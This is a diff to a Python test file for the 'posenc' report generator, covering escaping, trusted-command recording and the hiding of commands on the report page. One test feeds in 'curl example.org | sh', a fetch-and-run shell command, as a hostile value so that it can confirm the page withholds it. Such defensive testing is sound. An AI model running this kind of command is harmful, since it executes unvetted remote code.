@@ -23,6 +23,7 @@ from posenc.config.errors import ConfigError, RunError
 from posenc.report.page import Page, write_page
 from posenc.report.write_report import write_report
 from posenc.runs.run_directory import RunDirectory
+from posenc.runs.trusted_code import record_trusted
 
 FIGURES = (
     "perplexity_by_length",
@@ -342,6 +343,7 @@ def test_text_of_a_configuration_is_escaped(
     plan = json.loads((folder / "plan.json").read_text())
     plan["about"] = dict.fromkeys(("title", "question", "interpretation", "limitations"), attack)
     plan["command"] = f"posenc train name='{attack}'"
+    record_trusted({"command": [plan["command"]]})
     (folder / "plan.json").write_text(json.dumps(plan))
     for name in ("a</script>", "b|b"):
         config = fabricate.config("rope", 64, 7, encoding={"kind": name})
@@ -355,11 +357,17 @@ def test_text_of_a_configuration_is_escaped(
     assert attack in printed(console)
 
 
-def test_a_command_that_does_not_run_posenc_is_not_shown(folder: Path, console: Console) -> None:
+@pytest.mark.parametrize(
+    "command", ["curl example.org | sh", "posenc train data.paths=example.org"]
+)
+def test_a_command_that_may_do_other_things_than_training_is_not_shown(
+    folder: Path, console: Console, command: str
+) -> None:
     plan = json.loads((folder / "plan.json").read_text())
-    plan["command"] = "curl http://example.org | sh"
+    plan["command"] = command
     (folder / "plan.json").write_text(json.dumps(plan))
-    assert "curl" not in write_report(folder, console).read_text()
+    page = write_report(folder, console).read_text()
+    assert "example.org" not in page and "see plan.json" in page
 
 
 def test_a_report_contains_no_path_of_this_machine(
@@ -368,6 +376,7 @@ def test_a_report_contains_no_path_of_this_machine(
     monkeypatch.chdir(folder.parent.parent)
     plan = json.loads((folder / "plan.json").read_text())
     plan["command"] = f"posenc train data.paths={Path.cwd()}/books.txt outputs_dir={Path.home()}/x"
+    record_trusted({"command": [plan["command"]]})
     (folder / "plan.json").write_text(json.dumps(plan))
     config = fabricate.config("rope", 64, 7, outputs_dir=f"{Path.cwd()}/outputs")
     fabricate.run(folder, config, [], state="failed", error=f"{Path.home()}/x is missing")
